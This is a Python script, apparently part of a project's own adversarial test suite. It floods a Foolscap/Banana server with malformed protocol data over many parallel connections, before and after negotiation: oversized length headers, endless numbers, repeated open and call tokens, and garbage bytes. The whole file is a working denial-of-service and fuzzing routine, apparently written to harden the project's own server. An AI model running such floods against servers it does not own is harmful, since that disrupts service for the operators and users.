"""Strangers over Foolscap who send what no client sends, or nothing at all, before and after negotiation."""

from __future__ import annotations

import itertools
import threading

from misc.attack.foolscap import (
    PINGS,
    Peer,
    begin,
    call,
    in_parallel,
    opened,
    pour,
    string,
    token,
    value,
)
from misc.attack.target import Target, from_command_line
from pipegrid.core import base32
from pipegrid.wire import server_address
from pipegrid.wire.banana_receiver import CLOSE, ERROR, LONGINT, OPEN, STRING, VOCAB

CONNECTIONS = 24
_GIFT = opened(b"their-reference", value(1), value(b"pb://aaaa@tcp:127.0.0.1:1/x"))
NONSENSE = (
    PINGS,
    b"\x01" * 65536,  # a number without end
    (token(OPEN, 1) + string(b"list")) * 8192,
    (token(OPEN, 1) + string(b"call") + token(CLOSE, 1)) * 4096,
    opened(b"answer", value(1), value(b"x")) * 4096,
    opened(b"error", value(1), value(b"x")) * 4096,
    opened(b"set-vocab", value(1), value(b"x" * 99)) * 4096,
    call(1, 0, b"decref", value(1), value(1)) * 2048,
    call(1, 1, b"get_version") * 2048,
    call(1, 0, b"getReferenceByName", _GIFT) * 2048,
    token(LONGINT, 1 << 30) + b"x" * 65536,
    token(STRING, 1 << 30) + b"x" * 65536,
    token(ERROR, 1 << 30) + b"x" * 65536,
    token(VOCAB, 1 << 30) * 4096,
    b"\xff" * 65536,
    b"",
)
_next = itertools.cycle(range(len(NONSENSE) + 2))
_lock = threading.Lock()


def attack(target: Target) -> None:
    """Try each in turn, on new connections as the old ones are cut."""
    in_parallel(target, CONNECTIONS, send)


def send(target: Target) -> None:
    """Send one of them, until it is cut."""
    with _lock:
        which = next(_next)
    if which >= len(NONSENSE):
        before_negotiation(target, which > len(NONSENSE))
        return
    with Peer(target).socket as connection:
        if NONSENSE[which]:
            pour(target, connection, NONSENSE[which])
        connection.settimeout(max(0.1, target.left_s))
        while connection.recv(65536):
            pass


def before_negotiation(target: Target, granted: bool) -> None:
    """Send a head without end, in the clear, or behind it in the place of TLS."""
    with target.connect() as connection:
        connection.settimeout(5.0)
        if granted:
            begin(connection, base32.encode(server_address.parse_furl(target.furl).tub_id))
        else:
            connection.sendall(b"GET /id/")
        pour(target, connection, b"x" * 65536)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
